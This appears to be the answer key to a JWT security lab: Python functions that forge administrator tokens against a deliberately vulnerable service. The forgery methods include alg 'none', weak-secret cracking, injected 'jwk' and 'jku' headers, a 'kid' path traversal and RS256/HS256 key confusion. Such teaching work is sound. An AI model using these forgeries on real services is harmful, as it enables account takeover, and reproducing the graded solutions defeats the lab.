"""Lab 2, Part A — forge an administrator's token against each flaw of vulnerable.py.

Every function receives what an attacker really has: a token for their own account (`user_token`,
from GET /login?user=wiener) and, where the attack needs it, public information (the service's JWKS,
the URL of a key set the attacker controls). Each returns a token the matching service accepts as
`administrator`. PyJWT refuses to make several of these tokens (it will not sign 'none' or MAC with an
empty or PEM key), so `sign_hs256` and `jwtlab.b64` build them by hand.
"""

from __future__ import annotations

import hashlib
import hmac
from typing import Any

import jwt
from cryptography.hazmat.primitives import serialization

from jwtlab import b64, keys

ADMIN = "administrator"
#: The attacker's own key pair (demo key rsa-3): the service has never seen it.
ATTACKER_KEY = keys.rsa_key(3)


def admin_claims(user_token: str) -> dict[str, Any]:
    """The claims of your own token, unverified, with `sub` switched to the administrator."""
    claims = jwt.decode(user_token, options={"verify_signature": False})
    return {**claims, "sub": ADMIN}


def sign_hs256(header: dict[str, Any], claims: dict[str, Any], key: bytes) -> str:
    """An HS256 token MACed with any bytes at all as the key, even empty ones."""
    signing_input = f"{b64.encode_json(header)}.{b64.encode_json(claims)}"
    signature = hmac.new(key, signing_input.encode("ascii"), hashlib.sha256).digest()
    return f"{signing_input}.{b64.encode(signature)}"


def forge_unverified(user_token: str) -> str:
    """For the service that never checks signatures: new claims, the old signature."""
    # BEGIN SOLUTION forge-unverified
    header, _, signature = user_token.split(".")
    return f"{header}.{b64.encode_json(admin_claims(user_token))}.{signature}"
    # END SOLUTION


def forge_alg_none(user_token: str) -> str:
    """An unsigned token: alg "none" and an empty signature segment."""
    # BEGIN SOLUTION forge-alg-none
    header = {"alg": "none", "typ": "JWT"}
    return f"{b64.encode_json(header)}.{b64.encode_json(admin_claims(user_token))}."
    # END SOLUTION


def crack_secret(token: str, wordlist: list[str]) -> str | None:
    """The word whose HMAC-SHA256 reproduces the token's signature, or None if no word does."""
    # BEGIN SOLUTION forge-weak-secret
    signing_input, _, signature = token.rpartition(".")
    wanted = b64.decode(signature)
    for word in wordlist:
        mac = hmac.new(word.encode("utf-8"), signing_input.encode("ascii"), hashlib.sha256).digest()
        if hmac.compare_digest(mac, wanted):
            return word
    return None
    # END SOLUTION


def forge_weak_secret(user_token: str) -> str:
    """Crack the secret with the shipped wordlist, then sign your own claims with it."""
    # BEGIN SOLUTION forge-weak-secret
    secret = crack_secret(user_token, keys.weak_secret_wordlist())
    assert secret is not None, "the secret is not in the wordlist"
    return sign_hs256({"alg": "HS256", "typ": "JWT"}, admin_claims(user_token), secret.encode("utf-8"))
    # END SOLUTION


def forge_jwk(user_token: str) -> str:
    """Sign with ATTACKER_KEY and put its public JWK in the header."""
    # BEGIN SOLUTION forge-jwk
    headers = {"jwk": ATTACKER_KEY.public_jwk(), "kid": ATTACKER_KEY.kid}
    return jwt.encode(admin_claims(user_token), ATTACKER_KEY.private_key, algorithm="RS256", headers=headers)
    # END SOLUTION


def forge_jku(user_token: str, jku_url: str) -> str:
    """Sign with ATTACKER_KEY and point `jku` at the attacker's key set (served at `jku_url`)."""
    # BEGIN SOLUTION forge-jku
    headers = {"jku": jku_url, "kid": ATTACKER_KEY.kid}
    return jwt.encode(admin_claims(user_token), ATTACKER_KEY.private_key, algorithm="RS256", headers=headers)
    # END SOLUTION


def forge_kid(user_token: str) -> str:
    """A kid that climbs out of the key folder to /dev/null, and a MAC with the empty key."""
    # BEGIN SOLUTION forge-kid
    kid = "../" * 12 + "dev/null"
    return sign_hs256({"alg": "HS256", "typ": "JWT", "kid": kid}, admin_claims(user_token), b"")
    # END SOLUTION


def forge_confusion(user_token: str, jwks: dict[str, Any]) -> str:
    """HS256, MACed with the service's RSA public key in PEM form (taken from its published JWKS)."""
    # BEGIN SOLUTION forge-confusion
    public_key = jwt.algorithms.RSAAlgorithm.from_jwk(jwks["keys"][0])
    pem = public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    return sign_hs256({"alg": "HS256", "typ": "JWT"}, admin_claims(user_token), pem)
    # END SOLUTION
